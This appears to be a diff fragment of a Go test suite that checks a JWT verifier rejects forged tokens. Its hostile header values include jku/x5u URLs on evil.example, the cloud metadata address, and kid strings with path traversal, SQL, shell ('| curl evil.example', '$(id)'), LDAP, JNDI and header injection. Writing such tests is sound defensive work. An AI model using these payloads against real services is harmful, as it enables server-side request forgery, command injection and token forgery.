 		"https://evil.example/jwks", "https://id.example.com@evil.example/jwks", "https://evil.example#@id.example.com/jwks", "http://169.254.169.254/latest/meta-data",
@@ -252,21 +255,21 @@ func TestHeader(t *testing.T) {
 	} {
 		for _, name := range []string{"jku", "x5u"} {
 			d := g.head(name, quoted(url))
-			injected = append(injected, hostile{"J-10 P-15 ATK-B03 ATK-B04 " + name + " " + url, d.by("foreign-ec", "ES256").token(), badSignature, d.token()})
+			injected = append(injected, hostile{name + " " + url, "J-10 P-15 ATK-B03 ATK-B04", d.by("foreign-ec", "ES256").token(), badSignature, d.token()})
 		}
 	}
 	for _, kid := range []string{
 		"../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key'--", "| curl evil.example", "$(id)", "*)(uid=*", "{{7*7}}", "${jndi:ldap://evil.example}",
 		"https://evil.example/jwks", "kid-of-the-attacker\r\nX: y", strings.Repeat("k", 9000), "\u202eec",
 	} {
-		injected = append(injected, hostile{"P-14 ATK-B05 ATK-B06 ATK-B07 kid " + kid[:min(20, len(kid))], g.head("kid", quoted(kid)).by("foreign-ec", "ES256").token(), unknownKey, ""})
+		injected = append(injected, hostile{"kid " + kid[:min(20, len(kid))], "P-14 ATK-B05 ATK-B06 ATK-B07", g.head("kid", quoted(kid)).by("foreign-ec", "ES256").token(), unknownKey, ""})
 	}
-	w.refuses(t, injected)
+	w.rejectsAll(t, injected)
 	odd := newWorld(t, nil)
-	odd.accepts(t, map[string]string{"J-13 P-14 ATK-B05 a kid is a name and nothing else": odd.keyed("../../\"quoted\"?x#y")})
+	odd.acceptsAll(t, []genuine{{"a kid is a name and nothing else", "J-13 P-14 ATK-B05", odd.keyed("../../\"quoted\"?x#y")}})
 }
 
-// keyed publishes one more key under an odd name and returns a token of it.
+// keyed publishes one more key with an odd key ID and returns a token that it signed.
 func (w *world) keyed(kid string) string {
 	w.origin.set(theIssuer+"/jwks", keySet(jwkWith("ec"), jwkWith("ec-other", "kid", kid)))
 	return good().head("kid", quoted(kid)).by("ec-other", "ES256").token()
